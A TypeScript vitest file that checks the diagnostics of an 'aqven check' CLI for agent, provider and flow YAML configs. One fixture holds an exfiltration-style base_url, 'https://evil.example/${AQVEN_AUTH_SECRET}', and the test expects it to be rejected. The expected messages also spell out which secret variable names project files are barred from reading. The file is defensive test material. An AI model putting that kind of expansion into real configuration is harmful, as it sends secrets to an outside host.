// One row per check code of `aqven check` (DESIGN: CLI): a good project has no such
// diagnostic, the bad one has it at the file, line and column of the offending key or value.
import { describe, expect, it } from 'vitest';
import { type CheckCode, checkProject } from './index';
import { positionOf, writeProject } from '@/test/helpers/fixture-project';

const KEY = { OPENROUTER_API_KEY: 'sk-test', SLACK_WEBHOOK_URL: 'https://hooks.example.com/T0/B0/secret' };
const PROJECT = 'apiVersion: "aqven/v1"\nkind: "Project"\nname: "fixture"\n';

const agent = (body: string) => `apiVersion: "aqven/v1"\nkind: "Agent"\n${body}`;
const flow = (nodes: string, input = '  type: object\n  properties: { question: { type: string } }\n') => `apiVersion: "aqven/v1"\nkind: "Flow"\ninput:\n${input}nodes:\n${nodes}`;

interface Row {
  name: string;
  code: CheckCode;
  good: Record<string, string>;
  bad: Record<string, string>;
  file: string;
  /** the text the diagnostic must point at, searched in the bad file (after `after`) */
  needle: string;
  after?: string;
  /** the field path the diagnostic carries as data */
  path: (string | number)[];
  message?: RegExp;
  env?: Record<string, string>;
}

const rows: Row[] = [
  {
    name: 'on_refusal "fallback" without fallback_models',
    code: 'E_OUTCOME_FALLBACK',
    good: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\nfallback_models:\n- "openrouter:c/d"\noutput:\n  on_refusal: "fallback"\n') },
    bad: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  on_refusal: "fallback"\n') },
    file: 'agents/helper.yaml',
    path: ['output', 'on_refusal'],
    needle: '"fallback"',
    message: /output\.on_refusal is "fallback" but the agent has no fallback_models/,
  },
  {
    name: 'on_truncated "fallback" with an empty fallback_models',
    code: 'E_OUTCOME_FALLBACK',
    good: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  on_truncated: "retry"\n') },
    bad: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\nfallback_models: []\noutput:\n  on_truncated: fallback\n') },
    file: 'agents/helper.yaml',
    path: ['output', 'on_truncated'],
    needle: 'fallback\n',
    after: 'on_truncated',
  },
  {
    name: 'the primary model again in fallback_models',
    code: 'E_CHAIN_DUPLICATE',
    good: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\nfallback_models:\n- "openrouter:c/d"\n') },
    bad: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\nfallback_models:\n- "openrouter:c/d"\n- "openrouter:a/b"\n') },
    file: 'agents/helper.yaml',
    path: ['fallback_models', 1],
    needle: '"openrouter:a/b"',
    after: 'fallback_models',
    message: /fallback_models\[1\] "openrouter:a\/b" is already in the agent's chain \(model\)/,
  },
  {
    name: 'a fallback model twice',
    code: 'E_CHAIN_DUPLICATE',
    good: {},
    bad: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\nfallback_models: ["openrouter:c/d", "openrouter:c/d"]\n') },
    file: 'agents/helper.yaml',
    path: ['fallback_models', 1],
    needle: '"openrouter:c/d"]',
    message: /\(fallback_models\[0\]\)/,
  },
  {
    name: 'unknown key in output',
    code: 'E_FIELD',
    good: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  retries: 2\n') },
    bad: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  retires: 2\n') },
    file: 'agents/helper.yaml',
    path: ['output', 'retires'],
    needle: 'retires',
    message: /unknown key "retires" in output/,
  },
  {
    name: 'invalid on_error value',
    code: 'E_FIELD',
    good: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  on_error: "fail"\n') },
    bad: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  on_error: "explode"\n') },
    file: 'agents/helper.yaml',
    path: ['output', 'on_error'],
    needle: '"explode"',
    message: /output\.on_error must be one of "fail", "retry", "fallback"/,
  },
  {
    name: 'retries out of range',
    code: 'E_FIELD',
    good: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  retries: 10\n') },
    bad: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  retries: 11\n') },
    file: 'agents/helper.yaml',
    path: ['output', 'retries'],
    needle: '11',
  },
  {
    name: 'wrong apiVersion',
    code: 'E_FIELD',
    good: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\n') },
    bad: { 'agents/helper.yaml': 'apiVersion: "aqven/v2"\nkind: "Agent"\nmodel: "openrouter:a/b"\n' },
    file: 'agents/helper.yaml',
    path: ['apiVersion'],
    needle: '"aqven/v2"',
    message: /apiVersion must be "aqven\/v1"/,
  },
  {
    name: 'wrong kind',
    code: 'E_FIELD',
    good: {},
    bad: { 'agents/helper.yaml': 'apiVersion: "aqven/v1"\nkind: "Flow"\nmodel: "openrouter:a/b"\n' },
    file: 'agents/helper.yaml',
    path: ['kind'],
    needle: '"Flow"',
  },
  {
    name: 'missing model',
    code: 'E_FIELD',
    good: {},
    bad: { 'agents/helper.yaml': agent('description: "no model"\n') },
    file: 'agents/helper.yaml',
    path: ['model'],
    needle: 'apiVersion',
    message: /missing required key "model"/,
  },
  {
    name: 'provider name differs from the file name',
    code: 'E_FIELD',
    good: { 'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\nname: "local"\napi: "openai"\nbase_url: "http://127.0.0.1:9/v1"\n' },
    bad: { 'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\nname: "remote"\napi: "openai"\nbase_url: "http://127.0.0.1:9/v1"\n' },
    file: 'providers/local.yaml',
    path: ['name'],
    needle: '"remote"',
    message: /provider name "remote" does not match the file name "local"/,
  },
  {
    name: 'bad duration',
    code: 'E_FIELD',
    good: { 'providers/openrouter.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\ntransport:\n  budget: "1.5s"\n' },
    bad: { 'providers/openrouter.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\ntransport:\n  budget: "90 seconds"\n' },
    file: 'providers/openrouter.yaml',
    path: ['transport', 'budget'],
    needle: '"90 seconds"',
    message: /"90 seconds" is not a duration/,
  },
  {
    name: 'YAML syntax error',
    code: 'E_FIELD',
    good: {},
    bad: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  retries: [1, 2\n  on_error: "retry"\n') },
    file: 'agents/helper.yaml',
    path: [],
    needle: 'on_error',
    message: /YAML syntax error/,
  },
  {
    name: 'model string without a provider',
    code: 'E_MODEL',
    good: { 'agents/helper.yaml': agent('model: "openrouter:gpt-4o"\n') },
    bad: { 'agents/helper.yaml': agent('model: "gpt-4o"\n') },
    file: 'agents/helper.yaml',
    path: ['model'],
    needle: '"gpt-4o"',
    message: /model "gpt-4o" has no provider/,
  },
  {
    name: 'fallback model with an empty model id',
    code: 'E_MODEL',
    good: {},
    bad: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\nfallback_models:\n  - "openai:"\n') },
    file: 'agents/helper.yaml',
    path: ['fallback_models', 0],
    needle: '"openai:"',
  },
  {
    name: 'unknown provider',
    code: 'E_PROVIDER',
    good: {
      'agents/helper.yaml': agent('model: "acme:big-model"\n'),
      'providers/acme.yaml':
        'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "http://127.0.0.1:9/v1"\nmodels:\n  "big-model": { input_per_mtok: 1, output_per_mtok: 2 }\n',
    },
    bad: { 'agents/helper.yaml': agent('model: "acme:big-model"\n') },
    file: 'agents/helper.yaml',
    path: ['model'],
    needle: '"acme:big-model"',
    message: /unknown provider "acme"/,
  },
  {
    name: 'strict on a provider without structured outputs',
    code: 'E_STRICT',
    good: {
      'agents/helper.yaml': agent('model: "local:m"\noutput:\n  strict: false\n'),
      'providers/local.yaml':
        'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "http://127.0.0.1:9/v1"\nmodels:\n  "m": { input_per_mtok: 0, output_per_mtok: 0 }\n',
    },
    bad: {
      'agents/helper.yaml': agent('model: "local:m"\noutput:\n  strict: true\n'),
      'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "http://127.0.0.1:9/v1"\n',
    },
    file: 'agents/helper.yaml',
    path: ['output', 'strict'],
    needle: 'true',
    message: /provider "local"/,
  },
  {
    name: 'strict on a model whose catalogue entry lacks structured outputs',
    code: 'E_STRICT',
    good: { 'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  strict: true\n') },
    bad: {
      'agents/helper.yaml': agent('model: "openrouter:a/b"\noutput:\n  strict: true\n'),
      'providers/openrouter.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\nmodels:\n  "a/b": { structured_outputs: false }\n',
    },
    file: 'agents/helper.yaml',
    path: ['output', 'strict'],
    needle: 'true',
    message: /model "a\/b" has no structured_outputs/,
  },
  {
    name: 'node with an unknown agent',
    code: 'E_FLOW_AGENT',
    good: {},
    bad: { 'flows/ask.yaml': flow('  answer:\n    agent: "nobody"\n    prompt: "hi"\n') },
    file: 'flows/ask.yaml',
    path: ['nodes', 'answer', 'agent'],
    needle: '"nobody"',
    message: /agent "nobody", which does not exist/,
  },
  {
    name: 'needs an unknown node',
    code: 'E_FLOW_NEEDS',
    good: { 'flows/ask.yaml': flow('  a:\n    agent: "helper"\n    prompt: "hi"\n  b:\n    agent: "helper"\n    needs: [a]\n    prompt: "hi"\n') },
    bad: { 'flows/ask.yaml': flow('  a:\n    agent: "helper"\n    prompt: "hi"\n  b:\n    agent: "helper"\n    needs: [a, c]\n    prompt: "hi"\n') },
    file: 'flows/ask.yaml',
    path: ['nodes', 'b', 'needs', 1],
    needle: 'c]',
    message: /needs "c", which is not a node/,
  },
  {
    name: 'on_fail names an unknown node',
    code: 'E_FLOW_NEEDS',
    good: {},
    bad: { 'flows/ask.yaml': flow('  a:\n    agent: "helper"\n    prompt: "hi"\n    on_fail: "review"\n') },
    file: 'flows/ask.yaml',
    path: ['nodes', 'a', 'on_fail'],
    needle: '"review"',
  },
  {
    name: 'a cycle of needs',
    code: 'E_FLOW_NEEDS',
    good: {},
    bad: {
      'flows/ask.yaml': flow(
        '  a:\n    agent: "helper"\n    needs: [c]\n    prompt: "hi"\n  b:\n    agent: "helper"\n    needs: [a]\n    prompt: "hi"\n  c:\n    agent: "helper"\n    needs: [b]\n    prompt: "hi"\n',
      ),
    },
    file: 'flows/ask.yaml',
    path: ['nodes', 'b', 'needs', 0],
    needle: 'a]',
    message: /nodes form a cycle: a needs c, c needs b, b needs a/,
  },
  {
    name: 'input reference not in the input schema',
    code: 'E_TEMPLATE',
    good: {},
    bad: { 'flows/ask.yaml': flow('  answer:\n    agent: "helper"\n    prompt: "Answer {{ input.question }} and {{input.topic}}"\n') },
    file: 'flows/ask.yaml',
    path: ['nodes', 'answer', 'prompt'],
    needle: '{{input.topic}}',
    message: /input\.topic/,
  },
  {
    name: 'node reference not in needs',
    code: 'E_TEMPLATE',
    good: { 'flows/ask.yaml': flow('  a:\n    agent: "helper"\n    prompt: "hi"\n  b:\n    agent: "helper"\n    needs: [a]\n    prompt: "Go on: {{ nodes.a.output }}"\n') },
    bad: { 'flows/ask.yaml': flow('  a:\n    agent: "helper"\n    prompt: "hi"\n  b:\n    agent: "helper"\n    prompt: "Go on: {{ nodes.a.output }}"\n') },
    file: 'flows/ask.yaml',
    path: ['nodes', 'b', 'prompt'],
    needle: '{{ nodes.a.output }}',
    message: /not in the needs of "b"/,
  },
  {
    name: 'bad template syntax',
    code: 'E_TEMPLATE',
    good: {},
    bad: { 'flows/ask.yaml': flow('  answer:\n    agent: "helper"\n    prompt: |\n      Answer this:\n      {{ input.question\n') },
    file: 'flows/ask.yaml',
    path: ['nodes', 'answer', 'prompt'],
    needle: '{{ input.question',
    message: /never closed/,
  },
  {
    name: 'output schema with an invalid type',
    code: 'E_SCHEMA',
    good: { 'flows/ask.yaml': flow('  answer:\n    agent: "helper"\n    prompt: "hi"\n    output:\n      type: object\n      properties:\n        n: { type: integer }\n') },
    bad: { 'flows/ask.yaml': flow('  answer:\n    agent: "helper"\n    prompt: "hi"\n    output:\n      type: object\n      properties:\n        n: { type: integr }\n') },
    file: 'flows/ask.yaml',
    path: ['nodes', 'answer', 'output', 'properties', 'n', 'type'],
    needle: 'integr',
    message: /output schema of node "answer" does not compile/,
  },
  {
    name: 'input schema with an unknown keyword',
    code: 'E_SCHEMA',
    good: {},
    bad: {
      'flows/ask.yaml': flow(
        '  answer:\n    agent: "helper"\n    prompt: "{{ input.question }}"\n',
        '  type: object\n  properties: { question: { type: string } }\n  requried: [question]\n',
      ),
    },
    file: 'flows/ask.yaml',
    path: ['input', 'requried'],
    needle: 'requried',
    message: /input schema does not compile: .*requried/,
  },
  {
    name: 'a flow with more nodes than the limit',
    code: 'E_LIMIT',
    good: {},
    bad: { 'flows/ask.yaml': flow(Array.from({ length: 501 }, (_, i) => `  n${i}: { agent: "helper", prompt: "p" }\n`).join('')) },
    file: 'flows/ask.yaml',
    path: ['nodes'],
    needle: 'nodes:',
    message: /the flow has 501 nodes; a flow may have at most 500/,
  },
  {
    name: 'more errors in a file than are listed',
    code: 'E_MORE',
    good: {},
    bad: { 'agents/helper.yaml': agent(`model: "openrouter:a/b"\noutput:\n${Array.from({ length: 103 }, (_, i) => `  k${i}: 1\n`).join('')}`) },
    file: 'agents/helper.yaml',
    path: [],
    needle: 'apiVersion',
    message: /^and 3 more errors in this file, not listed$/,
  },
  {
    name: '${VAR} naming a variable project files may not read',
    code: 'E_ENV_NAME',
    good: { 'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "https://${LOCAL_HOST:-llm.internal}/v1"\n' },
    bad: { 'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "https://evil.example/${AQVEN_AUTH_SECRET}"\n' },
    env: { OPENROUTER_API_KEY: 'sk-test', AQVEN_AUTH_SECRET: 'secret' },
    file: 'providers/local.yaml',
    path: ['base_url'],
    needle: '"https://evil',
    message:
      /^base_url expands \$\{AQVEN_AUTH_SECRET\}, a variable project files may not read: \$\{VAR\} takes only upper-case names ending in _BASE_URL, _HOST, _PORT or _DIR, never AQVEN_\*, DATABASE_URL or PG\*$/,
  },
  {
    name: 'api_key_env naming a variable project files may not read',
    code: 'E_ENV_NAME',
    good: { 'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "https://llm.internal/v1"\napi_key_env: "LOCAL_API_KEY"\n' },
    bad: { 'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "https://llm.internal/v1"\napi_key_env: "AQVEN_DATABASE_URL"\n' },
    file: 'providers/local.yaml',
    path: ['api_key_env'],
    needle: '"AQVEN_DATABASE_URL"',
    message: /^api_key_env names AQVEN_DATABASE_URL, a variable project files may not read: api_key_env takes only upper-case names ending in _API_KEY or _API_TOKEN/,
  },
  {
    name: 'alerts.webhook.url_env naming a variable project files may not read',
    code: 'E_ENV_NAME',
    good: { 'aqven.yaml': `${PROJECT}alerts:\n  webhook: { url_env: "SLACK_WEBHOOK_URL" }\n` },
    bad: { 'aqven.yaml': `${PROJECT}alerts:\n  webhook: { url_env: "AQVEN_ALERT_WEBHOOK" }\n` },
    env: { ...KEY, AQVEN_ALERT_WEBHOOK: 'https://hooks.example.com/T0/B0/secret' },
    file: 'aqven.yaml',
    path: ['alerts', 'webhook', 'url_env'],
    needle: '"AQVEN_ALERT_WEBHOOK"',
    message: /^alerts\.webhook\.url_env names AQVEN_ALERT_WEBHOOK, a variable project files may not read: url_env takes only upper-case names ending in _WEBHOOK_URL or _WEBHOOK/,
  },
  {
    name: 'a provider file whose base_url is on a host outside AQVEN_PROVIDER_HOSTS',
    code: 'E_PROVIDER_HOST',
    good: { 'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "https://llm.internal/v1"\n' },
    bad: { 'providers/local.yaml': 'apiVersion: "aqven/v1"\nkind: "Provider"\napi: "openai"\nbase_url: "https://llm.internal/v1"\n' },
    env: { OPENROUTER_API_KEY: 'sk-test', AQVEN_PROVIDER_HOSTS: 'openrouter.ai, *.example.com' },
    file: 'providers/local.yaml',
    path: ['base_url'],
    needle: '"https://llm.internal/v1"',
    message:
      /^the base_url of providers\/local\.yaml is on host llm\.internal, which is not in AQVEN_PROVIDER_HOSTS \(openrouter\.ai, \*\.example\.com\): no request may go there$/,
  },
  {
    name: 'api key variable unset',
    code: 'W_API_KEY',
    good: {},
    bad: {},
    env: {},
    file: 'agents/helper.yaml',
    path: ['model'],
    needle: '"openrouter:openai/gpt-oss-20b"',
    message: /OPENROUTER_API_KEY is not set/,
  },
  {
    name: "alerts: set but the webhook's variable unset",
    code: 'W_ALERT_WEBHOOK',
    good: { 'aqven.yaml': `${PROJECT}alerts:\n  webhook: { url_env: "SLACK_WEBHOOK_URL" }\n` },
    bad: { 'aqven.yaml': `${PROJECT}alerts:\n  webhook: { url_env: "SLACK_WEBHOOK_URL" }\n` },
    env: { OPENROUTER_API_KEY: 'sk-test' },
    file: 'aqven.yaml',
    path: ['alerts', 'webhook', 'url_env'],
    needle: '"SLACK_WEBHOOK_URL"',
    message: /^SLACK_WEBHOOK_URL is not set: no alert can be sent from here$/,
  },
  {
    name: "alerts: the webhook's variable not an http(s) URL (its value never repeated)",
    code: 'W_ALERT_WEBHOOK',
    good: {},
    bad: { 'aqven.yaml': `${PROJECT}alerts:\n  webhook: { url_env: "SLACK_WEBHOOK_URL", format: generic }\n  rules: { queue_wait: { enabled: false } }\n` },
    env: { OPENROUTER_API_KEY: 'sk-test', SLACK_WEBHOOK_URL: 'hooks.example.com/T0/B0/secret' },
    file: 'aqven.yaml',
    path: ['alerts', 'webhook', 'url_env'],
    needle: '"SLACK_WEBHOOK_URL"',
    message: /^SLACK_WEBHOOK_URL is not an http\(s\) URL: no alert can be sent from here$/,
  },
  {
    name: 'a model the catalogue does not price, on a provider that states no cost',
    code: 'W_UNPRICED',
    good: {
      'agents/helper.yaml': agent('model: "anthropic:claude-sonnet-4-5"\n'),
      'providers/anthropic.yaml':
        'apiVersion: "aqven/v1"\nkind: "Provider"\nname: "anthropic"\napi: "anthropic"\napi_key_env: "OPENROUTER_API_KEY"\nmodels:\n  "claude-sonnet-4-5": { input_per_mtok: 3, output_per_mtok: 15 }\n',
    },
    bad: {
      'agents/helper.yaml': agent('model: "openrouter:openai/gpt-oss-20b"\nfallback_models:\n- "anthropic:claude-haiku-4-5"\n'),
      'providers/anthropic.yaml':
        'apiVersion: "aqven/v1"\nkind: "Provider"\nname: "anthropic"\napi: "anthropic"\napi_key_env: "OPENROUTER_API_KEY"\nmodels:\n  "claude-sonnet-4-5": { input_per_mtok: 3, output_per_mtok: 15 }\n',
    },
    file: 'agents/helper.yaml',
    path: ['fallback_models', 0],
    needle: '"anthropic:claude-haiku-4-5"',
    message: /"anthropic:claude-haiku-4-5" has no price in the catalogue/,
  },
];

describe('aqven check codes', () => {
  it.each(rows)('$code: $name', async (row) => {
    const goodDir = await writeProject(row.good);
    const good = await checkProject(goodDir, { env: KEY });
    expect(good).toEqual([]);

    const badDir = await writeProject(row.bad);
    const bad = await checkProject(badDir, { env: row.env ?? KEY });
    const text = row.bad[row.file] ?? (await import('@/test/helpers/fixture-project')).BASE_FILES[row.file];
    const { line, col } = positionOf(text, row.needle, row.after);
    const hits = bad.filter((d) => d.code === row.code);
    expect(hits, JSON.stringify(bad, null, 2)).toHaveLength(1);
    expect(hits[0]).toMatchObject({ file: row.file, line, col, severity: row.code.startsWith('W_') ? 'warning' : 'error' });
    expect(hits[0].path).toEqual(row.path);
    if (row.message) expect(hits[0].message).toMatch(row.message);
    expect(hits[0].hint.length).toBeGreaterThan(0);
    expect(hits[0].hint).not.toContain('\n');
  });

  it('covers every check code', async () => {
    const { CHECK_CODES } = await import('./index');
    // W_SCHEMA_LIMIT needs measured limits in a database: test/cli/check-limits.test.ts
    expect(new Set([...rows.map((r) => r.code), 'W_SCHEMA_LIMIT'])).toEqual(new Set(CHECK_CODES));
  });
});
